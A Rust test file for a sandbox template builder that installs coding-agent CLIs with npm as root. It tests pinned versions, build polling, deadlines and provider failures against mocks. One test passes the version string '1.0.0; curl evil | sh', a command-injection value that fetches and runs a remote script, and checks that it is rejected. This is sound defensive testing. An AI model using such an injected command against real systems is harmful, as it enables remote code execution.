//! Tool templates: recipes, pinned versions, and builds followed to their end.

use super::*;
use courier_e2b::{BuildLogEntry, BuildReason, BuildRequested, BuildStatus, MockSandboxApi};
use courier_store::SqliteStore;

fn entry(message: &str) -> BuildLogEntry {
    BuildLogEntry {
        timestamp: chrono::Utc::now(),
        level: "info".into(),
        message: message.into(),
        step: Some("2".into()),
    }
}

fn status(state: BuildState, lines: &[&str], reason: Option<BuildReason>) -> BuildStatus {
    BuildStatus {
        template_id: "tpl1".into(),
        build_id: "bld1".into(),
        status: state,
        log_entries: lines.iter().map(|l| entry(l)).collect(),
        reason,
    }
}

fn requested() -> BuildRequested {
    BuildRequested {
        template_id: "tpl1".into(),
        build_id: "bld1".into(),
        public: false,
        names: vec!["claude".into()],
        tags: Vec::new(),
        aliases: vec!["claude".into()],
    }
}

/// A mock whose build answers `statuses` in order (by call), checking offsets.
fn provider(statuses: Vec<(usize, BuildStatus)>) -> MockSandboxApi {
    let mut api = MockSandboxApi::new();
    api.expect_build_template()
        .returning(|_, _| Ok(requested()));
    let mut seq = mockall::Sequence::new();
    for (offset, answer) in statuses {
        api.expect_template_build_status()
            .withf(move |t, b, o| t == "tpl1" && b == "bld1" && *o == offset)
            .times(1)
            .in_sequence(&mut seq)
            .returning(move |_, _, _| Ok(answer.clone()));
    }
    api
}

async fn templates(api: MockSandboxApi) -> (Arc<dyn Store>, ToolTemplates) {
    let store: Arc<dyn Store> = Arc::new(SqliteStore::in_memory().await.unwrap());
    let templates =
        ToolTemplates::new(store.clone(), Arc::new(api)).with_poll_interval(Duration::ZERO);
    (store, templates)
}

#[tokio::test]
async fn the_recipe_installs_as_root_then_checks_the_version_as_the_user() {
    let (_, templates) = templates(MockSandboxApi::new()).await;
    let recipe = templates.recipe(ToolId::Claude).unwrap();
    assert_eq!(recipe.from_template, "base");
    assert_eq!(
        recipe.steps,
        [
            Step::run_as(
                "npm install -g --no-fund --no-audit --allow-scripts=@anthropic-ai/claude-code @anthropic-ai/claude-code@2.1.332",
                "root"
            ),
            Step::run("v=$(claude --version 2>&1) && echo \"courier-cli-version: $v\""),
        ]
    );
    let recipe = templates
        .with_install_command(ToolId::Codex, "install-fake codex")
        .recipe(ToolId::Codex)
        .unwrap();
    assert_eq!(recipe.steps[0], Step::run_as("install-fake codex", "root"));
}

#[tokio::test]
async fn a_deployment_pins_another_version_and_a_cache_and_bad_versions_are_refused() {
    let (_, templates) = templates(MockSandboxApi::new()).await;
    let templates = templates
        .with_cli_version(ToolId::Pi, "0.73.0")
        .unwrap()
        .with_npm_cache("/opt/npm-cache");
    assert_eq!(templates.cli_version(ToolId::Pi).as_deref(), Some("0.73.0"));
    assert_eq!(
        templates.cli_version(ToolId::Codex).as_deref(),
        Some("0.171.0")
    );
    let recipe = templates.recipe(ToolId::Pi).unwrap();
    assert_eq!(
        recipe.steps[0],
        Step::run_as(
            "npm install -g --no-fund --no-audit --allow-scripts=koffi,protobufjs,@google/genai \
             @mariozechner/pi-coding-agent@0.73.0 --cache /opt/npm-cache --prefer-offline",
            "root"
        )
    );
    // A version is spliced into a root shell command: nothing but version characters.
    let err = templates
        .with_cli_version(ToolId::Pi, "1.0.0; curl evil | sh")
        .unwrap_err();
    assert!(
        matches!(
            err,
            OrchestratorError::InvalidConfig {
                field: "cli_version",
                ..
            }
        ),
        "{err}"
    );
}

#[tokio::test]
async fn a_tool_without_a_template_names_the_field_and_the_tools_that_have_one() {
    let (_, templates) = templates(MockSandboxApi::new()).await;
    let err = templates.build(ToolId::Shell).await.unwrap_err();
    match err {
        OrchestratorError::InvalidConfig { field, message } => {
            assert_eq!(field, "tool");
            assert!(message.contains("claude, opencode, codex, pi"), "{message}");
        }
        other => panic!("{other:?}"),
    }
}

#[tokio::test]
async fn a_build_is_recorded_started_and_followed_to_succeeded() {
    let mut api = MockSandboxApi::new();
    api.expect_build_template()
        .withf(|name, recipe| {
            name == "claude"
                && recipe.steps[0]
                    == Step::run_as(
                        "npm install -g --no-fund --no-audit --allow-scripts=@anthropic-ai/claude-code @anthropic-ai/claude-code@2.1.332",
                        "root",
                    )
        })
        .times(1)
        .returning(|_, _| Ok(requested()));
    let mut seq = mockall::Sequence::new();
    for (offset, answer) in [
        (0, status(BuildState::Building, &["[1/2] RUN npm i"], None)),
        (
            1,
            status(
                BuildState::Ready,
                &["courier-cli-version: 2.1.197 (Claude Code)"],
                None,
            ),
        ),
        (2, status(BuildState::Ready, &[], None)),
    ] {
        api.expect_template_build_status()
            .withf(move |t, b, o| t == "tpl1" && b == "bld1" && *o == offset)
            .times(1)
            .in_sequence(&mut seq)
            .returning(move |_, _, _| Ok(answer.clone()));
    }
    let (store, templates) = templates(api).await;
    let started = templates.build(ToolId::Claude).await.unwrap();
    assert_eq!(started.row.status, TemplateBuildStatus::Building);
    assert_eq!(started.row.tool_id, "claude");
    assert_eq!(started.row.template_name, "claude");
    assert_eq!(started.row.cli_version, "2.1.332", "the pinned version");
    let done = started.finished.await.unwrap().unwrap();
    assert_eq!(done.status, TemplateBuildStatus::Succeeded);
    assert_eq!(done.error, None);
    assert!(done.finished_at.is_some());
    // `latest` resolved to what the version step printed.
    assert_eq!(done.cli_version, "2.1.197 (Claude Code)");
    let stored = store.get_template_build(done.id).await.unwrap();
    assert_eq!(stored, done);
}

#[tokio::test]
async fn a_failed_build_records_the_providers_step_and_reason() {
    let api = provider(vec![
        (
            0,
            status(
                BuildState::Error,
                &["npm ERR! 404"],
                Some(BuildReason {
                    message: "command exited with code 1".into(),
                    step: Some("1".into()),
                }),
            ),
        ),
        (
            1,
            status(
                BuildState::Error,
                &[],
                Some(BuildReason {
                    message: "command exited with code 1".into(),
                    step: Some("1".into()),
                }),
            ),
        ),
    ]);
    let (_, templates) = templates(api).await;
    let done = templates
        .build(ToolId::Claude)
        .await
        .unwrap()
        .finished
        .await
        .unwrap()
        .unwrap();
    assert_eq!(done.status, TemplateBuildStatus::Failed);
    assert_eq!(
        done.error.as_deref(),
        Some("step 1: command exited with code 1")
    );
}

#[tokio::test]
async fn a_build_past_its_deadline_is_recorded_failed_with_the_reason() {
    // A recipe whose install never ends (the issue's `npm install` spinning for 70
    // minutes): the provider keeps answering `building`; Courier gives up at the
    // deadline and records why, instead of following it forever.
    let mut api = MockSandboxApi::new();
    api.expect_build_template()
        .returning(|_, _| Ok(requested()));
    api.expect_template_build_status()
        .returning(|_, _, _| Ok(status(BuildState::Building, &[], None)));
    let store: Arc<dyn Store> = Arc::new(SqliteStore::in_memory().await.unwrap());
    let templates = ToolTemplates::new(store.clone(), Arc::new(api))
        .with_poll_interval(Duration::from_millis(20))
        .with_build_deadline(Duration::from_millis(300));
    let done = templates
        .build(ToolId::Claude)
        .await
        .unwrap()
        .finished
        .await
        .unwrap()
        .unwrap();
    assert_eq!(done.status, TemplateBuildStatus::Failed);
    let error = done.error.as_deref().unwrap();
    assert!(
        error.contains("did not finish within 300 ms") && error.contains("deadline"),
        "{error}"
    );
    assert_eq!(store.get_template_build(done.id).await.unwrap(), done);
}

#[tokio::test]
async fn a_build_the_provider_loses_is_failed_saying_so() {
    let mut api = MockSandboxApi::new();
    api.expect_build_template()
        .returning(|_, _| Ok(requested()));
    api.expect_template_build_status()
        .times(1)
        .returning(|_, _, _| {
            Err(courier_e2b::Error::NotFound {
                kind: courier_e2b::NotFoundKind::Template,
                message: "build bld1 not found".into(),
            })
        });
    let (_, templates) = templates(api).await;
    let done = templates
        .build(ToolId::Opencode)
        .await
        .unwrap()
        .finished
        .await
        .unwrap()
        .unwrap();
    assert_eq!(done.status, TemplateBuildStatus::Failed);
    assert_eq!(
        done.error.as_deref(),
        Some("the provider lost the build: build bld1 not found")
    );
}

#[tokio::test]
async fn a_build_the_provider_refuses_is_failed_and_the_error_returned() {
    let mut api = MockSandboxApi::new();
    api.expect_build_template().returning(|_, _| {
        Err(courier_e2b::Error::InvalidArgument {
            message: "fromTemplate base not found".into(),
        })
    });
    let (store, templates) = templates(api).await;
    let err = templates.build(ToolId::Pi).await.unwrap_err();
    assert!(matches!(err, OrchestratorError::Provider(_)), "{err:?}");
    let rows = store.list_template_builds(Some("pi".into())).await.unwrap();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].status, TemplateBuildStatus::Failed);
    assert!(
        rows[0]
            .error
            .as_deref()
            .unwrap()
            .contains("fromTemplate base not found")
    );
}

#[tokio::test]
async fn missing_lists_tools_without_a_ready_or_building_template() {
    let mut api = MockSandboxApi::new();
    api.expect_list_templates().returning(|| {
        let t = |id: &str, alias: &str, state: BuildState| courier_e2b::TemplateInfo {
            template_id: id.into(),
            build_id: "b".into(),
            aliases: vec![alias.into()],
            names: vec![alias.into()],
            cpu_count: 2,
            memory_mb: 1024,
            build_status: state,
            public: false,
        };
        Ok(vec![
            t("base", "base", BuildState::Ready),
            t("t1", "claude", BuildState::Ready),
            t("t2", "codex", BuildState::Building),
            t("t3", "pi", BuildState::Error),
        ])
    });
    let (_, templates) = templates(api).await;
    assert_eq!(
        templates.missing().await.unwrap(),
        [
            TemplateMissing {
                tool: ToolId::Opencode,
                failed: false
            },
            TemplateMissing {
                tool: ToolId::Pi,
                failed: true
            },
        ]
    );
}
